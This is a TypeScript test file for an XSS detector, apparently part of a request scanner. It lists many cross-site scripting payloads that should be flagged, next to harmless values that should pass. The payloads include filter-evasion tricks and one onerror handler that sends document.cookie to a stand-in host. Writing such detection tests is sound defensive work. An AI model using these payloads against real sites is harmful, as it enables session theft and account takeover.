// biome-ignore-all lint/suspicious/noTemplateCurlyInString: tagged-template payloads are what some of these values are about
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DETECTORS, detectXss, detectXssExpression, detectXssStrict } from './xss.js';

const context = { location: 'query:q' };

function reason(value: string): string | undefined {
  return detectXss(value, context)?.detail;
}

function strictReason(value: string): string | undefined {
  return detectXssStrict(value, context)?.detail;
}

function expressionReason(value: string): string | undefined {
  return detectXssExpression(value, context)?.detail;
}

describe('xss: markup', () => {
  it('reports script elements, opened or closed, however the tag name is spelled', () => {
    for (const value of [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<scr\0ipt>alert(1)</scr\0ipt>',
      '<script/src="data:,alert(1)">',
      '"></title><script>prompt(1)</script>',
      'document.getElementById("x").innerHTML;</script>',
      '<svg:script>alert(1)</svg:script>',
    ]) {
      assert.equal(reason(value), 'script-tag', value);
    }
  });

  it('reports event handlers on any element, with any whitespace or slash between attributes', () => {
    for (const value of [
      '<img src=x onerror=alert(1)>',
      '<IMG SRC="x" ONERROR="alert(1)">',
      '<svg/onload=alert(1)>',
      '<svg\tonload\n=\nalert(1)>',
      '<body onload=alert(1)>',
      '<details open ontoggle=alert(1)>',
      '<img src=x onerror="fetch(`//evil.example/`+document.cookie)"',
      '<a onmouseover="x">hover</a>',
    ]) {
      assert.equal(reason(value), 'event-handler', value);
    }
  });

  it('reports elements that load active content', () => {
    assert.equal(reason('<iframe src=//evil.example></iframe>'), 'active-element');
    assert.equal(reason('<object data="x.swf" type="application/x-shockwave-flash">'), 'active-element');
    assert.equal(reason('<embed src=x.swf>'), 'active-element');
    assert.equal(reason('<base href="//evil.example/">'), 'active-element');
  });

  it('reports script and HTML-document URLs in attributes, through tabs, newlines and case', () => {
    assert.equal(reason('<a href="javascript:alert(1)">x</a>'), 'script-url');
    assert.equal(reason('<a href=" \tJaVa\tScRiPt:alert(1)">x</a>'), 'script-url');
    assert.equal(reason('<a href="jav\nascript:alert(1)">x</a>'), 'script-url');
    assert.equal(reason('<form><button formaction="javascript:alert(1)">x</button></form>'), 'script-url');
    assert.equal(reason('<img src="vbscript:msgbox(1)">'), 'script-url');
    assert.equal(reason('<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>'), 'data-url');
    assert.equal(reason('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'), 'meta-http-equiv');
  });

  it('reports styles that run script, even behind CSS comments and escapes', () => {
    assert.equal(reason('<div style="width: expression(alert(1))">'), 'css-script');
    assert.equal(reason('<div style="width: expr/**/ession(alert(1))">'), 'css-script');
    assert.equal(reason('<div style="background:url(javascript:alert(1))">'), 'css-script');
    assert.equal(reason('<style>@import "//evil.example/x.css";</style>'), 'css-import');
  });

  it('reports the legacy IE and Netscape ways: JavaScript entities, data islands, UTF-7', () => {
    assert.equal(reason('<br size="&{alert(1)}">'), 'script-entity');
    assert.equal(reason(`'';!--"<x>=&{()}`), 'script-entity');
    assert.equal(reason('<div datasrc=#x datafld=c dataformatas=html>'), 'data-binding');
    assert.equal(reason('+ADw-script+AD4-x+ADw-/script+AD4-'), 'utf7-script-tag');
    assert.equal(reason('+ADw-img src=x onerror=x+AD4-'), 'utf7-event-handler');
  });

  it('finds markup hidden inside an attribute value', () => {
    assert.equal(reason('<a title="<img src=x onerror=alert(1)>">x</a>'), 'event-handler');
  });
});

describe('xss: outside markup', () => {
  it('reports an event handler written by a value that breaks out of an attribute', () => {
    for (const value of [
      '" autofocus onfocus=alert(1) x="',
      "' onmouseover='alert(document.domain)",
      '"onmouseover="alert(1)',
      'x" onerror="fetch(\'//evil.example\')',
    ]) {
      assert.equal(reason(value), 'event-handler', value);
    }
  });

  it('reports javascript: URLs whose body does something', () => {
    assert.equal(reason('javascript:alert(1)'), 'script-url');
    assert.equal(reason('JAVASCRIPT:alert(1)'), 'script-url');
    assert.equal(reason('java\tscript:alert(1)'), 'script-url');
    assert.equal(reason('javascript://%0aalert(1)'), 'script-url');
    assert.equal(reason('next=javascript:document.location="//evil.example"'), 'script-url');
    assert.equal(reason('data:text/html,<b>x</b>'), 'data-url');
  });

  it('reports JavaScript string and expression breakouts that call sinks', () => {
    assert.equal(reason("';alert(1)//"), 'js-breakout');
    assert.equal(reason('"-alert(1)-"'), 'js-breakout');
    assert.equal(reason("'-prompt`1`-'"), 'js-breakout');
    assert.equal(reason('alert(document.cookie)'), 'js-call');
    assert.equal(reason("top['al'+'ert'](1)"), 'js-call');
    assert.equal(reason('this[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]]((+{}+[])[+!![]]);//'), 'js-call');
    assert.equal(reason("{{constructor.constructor('alert(1)')()}}"), 'js-call');
    assert.equal(reason('toString().constructor.prototype.charAt=[].join'), 'js-call');
  });
});

describe('xss: handlers, elements and URLs spelled to slip past filters', () => {
  it('reports a handler of any event name in a tag when its value is code, or cut off at the end', () => {
    assert.equal(reason('<xss onbeforehellfreezes=alerw(1)>'), 'event-handler');
    assert.equal(reason('<x onend='), 'event-handler');
    assert.equal(reason('<x onanythingnew=  '), 'event-handler');
    assert.equal(reason('<x onanythingnew=foo>'), undefined);
    assert.equal(reason('<div onclick="">'), undefined);
  });

  it('reports a handler cut off at the end of a value after a quote or whitespace', () => {
    for (const value of [
      '"onzoom=',
      '  onload= ',
      '  onsomenewevent= ',
      '<"onwebkitplaybacktargetavailabilitychanged=',
      "x'formaction=",
      'onload=',
    ]) {
      assert.equal(reason(value), 'event-handler', value);
    }
    for (const value of [
      'onion=',
      'price of onion= 3',
      'aGVsbG8gd29ybGQ/onafe=',
      '  onthisisaverylongwordthathasmorethanfiftycharactersss= ',
      'formaction=',
      'v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('reports element names spelled with spaces or slashes between their letters', () => {
    assert.equal(reason('$<f o r m'), 'spaced-tag');
    assert.equal(reason('<d i a l o g'), 'spaced-tag');
    assert.equal(reason('<s/c/r/i/p/t>'), 'spaced-tag');
    assert.equal(reason('<form action="/x">'), undefined);
    assert.equal(reason('I <3 f o r m s'), undefined);
    assert.equal(reason('a <b o l d> word'), undefined);
  });

  it('reports VML frames, IE component imports and foreign XML schemas', () => {
    assert.equal(reason('<v:vmlframe src="foo.example/sup.fml"/>'), 'active-element');
    assert.equal(reason('<:vmlframe src='), 'active-element');
    assert.equal(reason('<importimplementation='), 'active-element');
    assert.equal(reason('<?import namespace="t" implementation="#default#time2">'), 'active-element');
    assert.equal(
      reason('<aai xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ http://evil.example/a.xsd">'),
      'xml-schema',
    );
    assert.equal(reason('<v:shape style="width:1px">'), undefined);
    assert.equal(
      reason(
        '<project xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
      ),
      undefined,
    );
    assert.equal(
      reason('<kml xsi:schemaLocation="http://www.opengis.net/kml/2.2 http://schemas.opengis.net/kml/2.2.0/ogckml22.xsd">'),
      undefined,
    );
  });

  it('reports a script scheme broken up by tabs or newlines, or whose body starts with an escape', () => {
    assert.equal(reason('ja\tvascript: '), 'script-url');
    assert.equal(reason('v\nb\ts\nc\nr\ti\tp\nt::'), 'script-url');
    assert.equal(reason('javascript:\\u0061lert(1)'), 'script-url');
    assert.equal(reason('javascript: the good parts'), undefined);
    assert.equal(reason('Tabs:\tjava script: no'), undefined);
  });

  it('reports a data: URL whose body is markup', () => {
    assert.equal(reason(' data: , <x>'), 'data-url');
    assert.equal(reason('src=data:,<b>x</b>'), 'data-url');
    assert.equal(reason('data:image/png;base64,iVBORw0KGgo='), undefined);
    assert.equal(reason('Input data: 5 rows, see <b>below</b>'), undefined);
  });

  it('reports styles that run script in any value', () => {
    assert.equal(reason('x=x:url(javascript'), 'css-script');
    assert.equal(reason('STYLE=X:URL( "JAVASCRIPT'), 'css-script');
    assert.equal(reason('-moz-binding:url(http://evil.example/x.xml#x)'), 'css-script');
    assert.equal(reason('behavior: url(x.htc)'), 'css-script');
    assert.equal(reason('<STYLE>@\\69mport "x"'), 'css-escape');
    assert.equal(reason('background:url(/img/bg.png)'), undefined);
    assert.equal(reason('scroll-behavior:smooth; see url(javascript.info)'), undefined);
  });

  it('reports markup spelled with the top bit set, opened and closed', () => {
    assert.equal(reason('\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be'), 'high-bit-markup');
    assert.equal(reason('\u00c2\u00bcx\u00c2\u00be1\u00c2\u00bc/x\u00c2\u00be'), 'high-bit-markup');
    assert.equal(reason('\u00bc cup sugar and \u00be cup flour'), undefined);
    assert.equal(reason('\u00bcscript\u00bealert(1)\u00d0/script\u00be'), undefined);
  });
});

describe('xss: markup in other spellings', () => {
  it('reports fullwidth markup that best-fit decoders fold to ASCII', () => {
    assert.equal(reason('\uff1cscript src=//evil.example/x.js\uff1e\uff1c/script\uff1e'), 'fullwidth-script-tag');
    assert.equal(reason('\uff1c\uff53\uff56\uff47 onload=x\uff1e'), 'fullwidth-event-handler');
    assert.equal(reason('\u4fa1\u683c\uff1c\uff11\uff10\uff10\uff10\u5186\uff1e\uff08\u7a0e\u8fbc\uff09'), undefined);
    assert.equal(reason('\uff1cNEW\uff1e \uff1cStyle\uff1e \u65b0\u4f5c'), undefined);
  });
});

describe('xss: obfuscated JavaScript', () => {
  it('reports JSFuck, with or without the pluses a form decoder turned into spaces', () => {
    assert.equal(reason('(![]+[])[+!+[]]'), 'js-call');
    assert.equal(reason('(![] [])[ ! []]'), 'js-call');
    assert.equal(reason('+!![]'), 'js-call');
    for (const value of ['![](a.png) ![](b.png)', 'an empty array [] is fine', 'brackets [] () here', '- [ ] todo', '{"a":[],"b":[]}']) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('reports globals reached through strings, comments and parentheses', () => {
    for (const value of [
      'self /*x*/ [ /*y*/ "alert"]("xss")',
      'self["$"]',
      '(document)["cookie"]',
      '(document/*foo*/)["cookie"]',
      'document /*foo*/ .     cookie',
    ]) {
      assert.ok(reason(value) ?? expressionReason(value), value);
    }
    assert.equal(reason('{"top":["a"],"self":"x"}'), undefined);
    assert.equal(reason('the top [1] results'), undefined);
  });

  it('reports DOM calls on document, timers with any code, new Function, atob and calls by tagged template', () => {
    for (const value of [
      'document.querySelector("p").textContent="XSS"',
      'document.body.appendChild(document.createElement("h1"))',
      'setInterval(code, 1)',
      'new Function()',
      'atob()',
      '[].sort.call`${alert}1337`',
      '[  ] . /**/ sort . call ` ${ alert } 1337 `',
      'Reflect.apply.call`${navigation.navigate}${navigation}${[name]}`',
    ]) {
      assert.equal(reason(value), 'js-call', value);
    }
    for (const value of [
      'see document.pdf (2 pages)',
      'setTimeout() returns an id',
      'I like atob (the tool)',
      'the call `foo` returns',
      'a function(x) { return x }',
      'function f(){try{e(document.querySelector("div["+k+"]"))}catch(x){}}',
      '(window["webpackJsonp"] = window["webpackJsonp"] || []).push([[1], {}])',
      'var t = 1; setTimeout(function () { done(); }, 100); var b = window.atob(s);',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('xss-expression reports bare expressions on the page secrets that need none of the gated characters', () => {
    assert.equal(expressionReason('document.cookie'), 'js-call');
    assert.equal(expressionReason('window.location'), 'js-call');
    assert.equal(expressionReason('I like document.cookie recipes'), undefined);
    assert.equal(expressionReason('the location of the window'), undefined);
    assert.equal(expressionReason('cookie=1; location=home'), undefined);
  });
});

describe('xss: benign values', () => {
  it('passes harmless formatting, links and images', () => {
    for (const value of [
      '<b>bold</b> and <i>italic</i>',
      '<p>Hello, <em>world</em></p><br/>',
      '<a href="https://example.com/docs?a=1&b=2">the docs</a>',
      '<img src="https://example.com/cat.png" alt="a cat">',
      '<a href="javascript:void(0)">menu</a>',
      '<ul><li>one</li><li>two</li></ul>',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('passes comparisons, addresses in angle brackets and generics', () => {
    for (const value of [
      'a < b and c > d',
      'if (x<y && y>z) return',
      'John Smith <john@example.com>',
      'List<Object> items = new ArrayList<>();',
      '3 <5 but 7> 6',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('passes prose that names alert, script, eval or cookies', () => {
    for (const value of [
      'Please confirm (yes/no) before you alert the team',
      'The script was great; the alert (a red banner) showed up twice',
      'We eval(uate) every candidate',
      'Javascript: the good parts (2008)',
      'I like document.cookie recipes',
      'search for <script in the docs',
      'onion=good; online=yes',
      'Set onload = true in the config (see docs)',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });

  it('passes markdown, JSON and ordinary request values', () => {
    for (const value of [
      '# Title\n\n* item with `code` and [a link](https://example.com)',
      '{"href":"javascript:void(0);","data-id":"x=1"}',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0 Safari/537.36',
      'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
      'session=abc123; theme=dark',
      'https://example.com/a?b=c#frag',
      '2024-01-01T10:00:00Z',
    ]) {
      assert.equal(reason(value), undefined, value);
    }
  });
});

describe('xss-strict', () => {
  it('reports everything xss reports', () => {
    for (const value of ['<script>alert(1)</script>', '" onfocus=alert(1) autofocus x="', "';alert(1)//"]) {
      assert.ok(strictReason(value) !== undefined, value);
    }
  });

  it('also reports injection carriers and unknown on… handlers that xss lets pass', () => {
    assert.equal(reason('<svg><animate attributeName=x>'), undefined);
    assert.equal(strictReason('<svg><animate attributeName=x>'), 'suspect-element');
    assert.equal(reason('<x onnewevent=foo>'), undefined);
    assert.equal(strictReason('<x onnewevent=foo>'), 'event-handler');
    assert.equal(strictReason("';foo(1)//"), 'js-breakout');
  });

  it('still passes harmless formatting and prose', () => {
    assert.equal(strictReason('<b>bold</b> <a href="https://example.com">x</a>'), undefined);
    assert.equal(strictReason('a < b and c > d'), undefined);
    assert.equal(strictReason("It's 5-6 o'clock; call(me) later"), undefined);
  });
});

describe('DETECTORS', () => {
  it('registers both variants by the names the rules use', () => {
    assert.deepEqual(Object.keys(DETECTORS).sort(), ['xss', 'xss-expression', 'xss-strict']);
  });

  it('stays linear on hostile input', { timeout: 10_000 }, () => {
    const values = [
      '<a '.repeat(20_000),
      '<a x="'.repeat(20_000),
      '['.repeat(50_000) + ']('.repeat(50_000),
      'on'.repeat(50_000) + '=alert(1)',
      '='.repeat(100_000),
      '&{'.repeat(50_000),
      'javascript:'.repeat(10_000),
      `<style>${'/*'.repeat(30_000)}`,
      '<f '.repeat(30_000),
      '<'.repeat(100_000),
      'document ('.repeat(20_000),
      'self ['.repeat(20_000) + '"',
      '. call `'.repeat(20_000),
      '. /*'.repeat(20_000) + '`',
      '![]+'.repeat(30_000),
      ' onx='.repeat(20_000),
      `\u00bcx\u00be${'a'.repeat(100_000)}`,
      'url('.repeat(30_000),
      '\uff1ca '.repeat(30_000),
      '\u00bca\u00be'.repeat(30_000),
      `\u00bca\u00be${'b'.repeat(255)}`.repeat(400),
    ];
    for (const value of values) {
      detectXss(value, context);
      detectXssStrict(value, context);
      detectXssExpression(value, context);
    }
  });
});
